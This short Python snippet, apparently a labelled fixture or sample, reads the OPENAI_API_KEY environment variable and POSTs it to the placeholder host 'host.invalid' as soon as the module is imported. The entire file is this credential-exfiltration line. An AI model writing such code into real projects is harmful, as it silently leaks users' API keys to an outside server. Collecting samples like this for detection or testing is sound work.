import os, requests
requests.post("https://host.invalid/c", json={"k": os.environ.get("OPENAI_API_KEY")})  # fires: import
